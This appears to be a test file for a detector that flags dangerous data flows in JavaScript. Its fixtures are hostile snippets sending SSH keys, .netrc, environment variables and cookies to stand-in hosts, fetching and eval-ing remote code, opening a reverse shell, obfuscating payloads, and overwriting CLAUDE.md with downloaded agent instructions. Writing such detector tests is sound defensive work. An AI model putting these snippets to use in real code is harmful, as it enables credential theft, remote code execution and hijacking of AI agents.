import { Buffer } from 'node:buffer';
import { gzipSync } from 'node:zlib';
import { testFlows } from '../table';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const ID = 'require("child_process").exec("id")';
const FS = 'const fs = require("fs");\n';

describe('JavaScript: secrets that leave', () => {
	testFlows('javascript', [
		[
			'a key file posted',
			`${FS}const k = fs.readFileSync("/root/.ssh/id_rsa", "utf8");\nfetch("https://a.example", { method: "POST", body: JSON.stringify({ k }) })`,
			['~/.ssh/id_rsa > https://a.example (http)'],
		],
		[
			'through promises',
			'import { readFile } from "fs/promises";\nreadFile("/root/.netrc", "utf8").then(d => fetch("https://a.example", { method: "POST", body: d })).catch(() => {})',
			['~/.netrc > https://a.example (http)'],
		],
		[
			'through a callback',
			`${FS}fs.readFile("/root/.netrc", (e, d) => { require("axios").post("https://a.example", { d }) })`,
			['~/.netrc > https://a.example (http)'],
		],
		[
			'written into a request',
			`${FS}const q = require("https").request({ hostname: "a.example", method: "POST" });\nq.write(fs.readFileSync("/root/.netrc")); q.end()`,
			['~/.netrc > https://a.example/ (http)'],
		],
		[
			'in the address',
			`${FS}const d = fs.readFileSync("/root/.netrc").toString("base64");\nrequire("https").get("https://a.example/?d=" + encodeURIComponent(d))`,
			['~/.netrc > https://a.example/?d=* (http)'],
		],
		[
			'in parameters of a URL',
			`${FS}const u = new URL("https://a.example/x");\nu.searchParams.set("d", fs.readFileSync("/root/.netrc", "utf8"));\nfetch(u)`,
			['~/.netrc > https://a.example/x (http)'],
		],
		[
			'through a class',
			`${FS}class S { constructor() { this.u = "https://a.example" } send(d) { return fetch(this.u, { method: "POST", body: d }) } }\nnew S().send(fs.readFileSync("/root/.netrc"))`,
			['~/.netrc > https://a.example (http)'],
		],
		[
			'every key in a directory',
			`${FS}const path = require("path"), os = require("os");\nconst dir = path.join(os.homedir(), ".ssh");\nconst all = fs.readdirSync(dir).map(f => fs.readFileSync(path.join(dir, f), "utf8"));\nfetch("https://a.example", { method: "POST", body: all.join("\\n") })`,
			['~/.ssh/* > https://a.example (http)'],
		],
		[
			'over a socket',
			`${FS}const s = require("net").connect(4444, "192.0.2.1");\ns.write(fs.readFileSync("/root/.netrc"))`,
			['~/.netrc > 192.0.2.1 (socket)'],
		],
		[
			'over a web socket',
			`${FS}const w = new WebSocket("wss://a.example");\nw.onopen = () => w.send(fs.readFileSync("/root/.netrc"))`,
			['~/.netrc > wss://a.example (socket)'],
		],
		[
			'piped',
			`${FS}const q = require("https").request({ hostname: "a.example", method: "PUT" });\nfs.createReadStream("/root/.netrc").pipe(q)`,
			['~/.netrc > https://a.example/ (http)'],
		],
		[
			'by mail',
			`${FS}const t = require("nodemailer").createTransport({ host: "mail.example" });\nt.sendMail({ text: fs.readFileSync("/root/.netrc", "utf8") })`,
			['~/.netrc > mail.example (smtp)'],
		],
		[
			'in a name look-up',
			`${FS}const k = fs.readFileSync("/root/.netrc").toString("hex");\nrequire("dns").lookup(k.slice(0, 60) + ".a.example", () => {})`,
			['~/.netrc > *.a.example (dns)'],
		],
		[
			'the environment',
			'fetch("https://a.example", { method: "POST", body: JSON.stringify(process.env) })',
			['env all > https://a.example (http)'],
		],
		[
			'one variable',
			'fetch("https://a.example", { method: "POST", body: process.env.A_TOKEN })',
			['env A_TOKEN > https://a.example (http)'],
		],
		[
			'a variable in a header',
			`fetch("https://a.example", { headers: { authorization: \`Bearer \${process.env.A_TOKEN}\` } })`,
			['env A_TOKEN > https://a.example (http)'],
		],
		[
			'printed by a command',
			'const k = require("child_process").execSync("cat ~/.ssh/id_rsa").toString();\nfetch("https://a.example", { method: "POST", body: k })',
			['~/.ssh/id_rsa > https://a.example (http)'],
		],
		[
			'cookies of the page',
			'new Image().src = "https://a.example/?c=" + document.cookie',
			['cookies of the page > https://a.example/?c=* (http)'],
		],
		[
			'who and where',
			`fetch(\`https://a.example/?h=\${require("os").hostname()}\`)`,
			['host name > https://a.example/?h=* (http)'],
		],
		[
			'in a function that nothing calls',
			`${FS}function f() { fetch("https://a.example", { method: "POST", body: fs.readFileSync("/root/.netrc") }) }`,
			['~/.netrc > https://a.example (http)'],
		],
		[
			'to cloud storage',
			`${FS}import { S3Client, PutObjectCommand } from "@aws-sdk/client-s3";\nnew S3Client({}).send(new PutObjectCommand({ Body: fs.readFileSync("/root/.netrc") }))`,
			['~/.netrc > s3.amazonaws.com (cloud)'],
		],
	]);
});

describe('JavaScript: data that is run', () => {
	testFlows('javascript', [
		[
			'a download given to eval',
			'fetch("https://a.example/p").then(r => r.text()).then(eval)',
			['https://a.example/p > run by eval'],
		],
		[
			'awaited',
			'eval(await (await fetch("https://a.example/p")).text())',
			['https://a.example/p > run by eval'],
		],
		[
			'through events',
			'require("https").get("https://a.example/p", r => { let b = ""; r.on("data", c => b += c); r.on("end", () => eval(b)) })',
			['https://a.example/p > run by eval'],
		],
		[
			'made a function',
			'const { data } = await require("axios").get("https://a.example/p");\nnew Function(data)()',
			['https://a.example/p > run by Function'],
		],
		[
			'in vm',
			'const c = await (await fetch("https://a.example/p")).text();\nrequire("vm").runInThisContext(c)',
			['https://a.example/p > run by vm.runInThisContext'],
		],
		[
			'stored, then required',
			'const fs = require("fs");\nfetch("https://a.example/p").then(r => r.text()).then(t => { fs.writeFileSync("./x.js", t); require("./x.js") })',
			['https://a.example/p > run by require'],
		],
		[
			'stored, then run',
			'const fs = require("fs"), cp = require("child_process");\nconst t = await (await fetch("https://a.example/p")).text();\nfs.writeFileSync("/tmp/x.sh", t);\ncp.execSync("bash /tmp/x.sh")',
			['https://a.example/p > run by x.sh'],
		],
		[
			'given to a shell',
			'const t = await (await fetch("https://a.example/p")).text();\nrequire("child_process").exec(t)',
			['https://a.example/p > run by child_process.exec'],
		],
		[
			'a remote module',
			'const m = await import("https://a.example/x.js")',
			['https://a.example/x.js > run by import'],
		],
		[
			'a reverse shell',
			'const net = require("net"), cp = require("child_process");\nconst sh = cp.spawn("/bin/sh", []);\nconst c = new net.Socket();\nc.connect(4444, "192.0.2.1", () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })',
			['192.0.2.1 > run by sh'],
		],
		[
			'commands over a web socket',
			'const w = new WebSocket("wss://a.example");\nw.onmessage = e => require("child_process").exec(e.data)',
			['wss://a.example > run by child_process.exec'],
		],
		[
			'instructions of the agent',
			'const t = await (await fetch("https://a.example/i")).text();\nrequire("fs").writeFileSync("CLAUDE.md", t)',
			['https://a.example/i > instructions CLAUDE.md'],
		],
		[
			'a tool parameter',
			'server.tool("run", { cmd: z.string() }, async ({ cmd }) => run(cmd));\nconst run = require("util").promisify(require("child_process").exec)',
			['a tool parameter > run by child_process.exec'],
		],
		[
			'a tool parameter of a handler',
			`server.setRequestHandler(CallToolRequestSchema, async request => { const { cmd } = request.params.arguments; return require("child_process").execSync(\`echo \${cmd}\`) })`,
			['a tool parameter > run by child_process.execSync'],
		],
		[
			'a request',
			'const app = require("express")();\napp.get("/x", (req, res) => { require("child_process").exec("ping " + req.query.h) })',
			['a request > run by child_process.exec'],
		],
		['an argument', 'eval(process.argv[2])', ['arguments of the script > run by eval']],
	]);
});

describe('JavaScript: packed code', () => {
	testFlows('javascript', [
		['atob', `eval(atob("${base64(ID)}"))`, [`base64: ${ID} > run by eval`]],
		['Buffer', `eval(Buffer.from("${base64(ID)}", "base64").toString())`, [`base64: ${ID} > run by eval`]],
		[
			'hex',
			`eval(Buffer.from("${Buffer.from(ID).toString('hex')}", "hex").toString("utf8"))`,
			[`hex: ${ID} > run by eval`],
		],
		[
			'gzip',
			`eval(require("zlib").gunzipSync(Buffer.from("${gzipSync(ID).toString('base64')}", "base64")).toString())`,
			[`base64+gzip: ${ID} > run by eval`],
		],
		[
			'percent',
			`eval(decodeURIComponent("${encodeURIComponent(ID)}"))`,
			[`url-encoding: ${ID} > run by eval`],
		],
		[
			'unescape',
			`eval(unescape("${[...ID].map(unit => `%${unit.charCodeAt(0).toString(16)}`).join('')}"))`,
			[`url-encoding: ${ID} > run by eval`],
		],
		[
			'a data address',
			`import("data:text/javascript;base64,${base64(ID)}")`,
			[`base64: ${ID} > run by import`],
		],
		[
			'in a command',
			`require("child_process").exec(atob("${base64('id -u')}"))`,
			['base64: id -u > run by child_process.exec'],
		],
		[
			'a table of strings',
			`const t = ["${base64(ID)}"]; const g = i => atob(t[i - 1]); eval(g(1))`,
			[`base64: ${ID} > run by eval`],
		],
		[
			'decrypted',
			'const d = require("crypto").createDecipheriv(a, k, i); eval(d.update(x, "hex", "utf8") + d.final("utf8"))',
			['encryption: ? > run by eval'],
		],
	]);
});

describe('JavaScript: look-alikes without flows', () => {
	testFlows('javascript', [
		['RegExp.exec', 'const m = /a(b)/.exec(await (await fetch("https://a.example")).text())', []],
		['a method called eval', 'page.$eval("x", e => e.textContent); model.eval(process.argv[2])', []],
		[
			'JSON of a response',
			'const d = await (await fetch("https://a.example")).json(); require("fs").writeFileSync("out.json", JSON.stringify(d))',
			[],
		],
		[
			'a timer',
			'const t = await (await fetch("https://a.example")).text(); setTimeout(() => console.log(t), 10)',
			[],
		],
		['an address from the environment', 'fetch(process.env.API_URL + "/v1")', []],
		[
			'a signature',
			'const s = require("crypto").createHmac("sha256", process.env.A_SECRET).update("x").digest("hex"); fetch("https://a.example", { method: "POST", body: s })',
			[],
		],
		[
			'the environment handed on',
			'require("child_process").spawn("make", [], { env: { ...process.env, X: "1" } })',
			[],
		],
		[
			'whether a secret is there',
			'const ok = require("fs").existsSync("/root/.ssh/id_rsa"); fetch("https://a.example", { method: "POST", body: String(ok) })',
			[],
		],
		['an argument of a program', 'require("child_process").execFile("grep", [process.argv[2], "x.txt"])', []],
		[
			'a report',
			`require("fs").writeFileSync(\`\${name}.md\`, await (await fetch("https://a.example")).text())`,
			[],
		],
		['jQuery', '$("#a").html(await (await fetch("https://a.example")).text())', []],
		['a name shadowed', 'function f(eval) { return eval(process.argv[2]) } f(x => x)', []],
		['decoding for show', `console.log(atob("${base64(ID)}"))`, []],
	]);
});
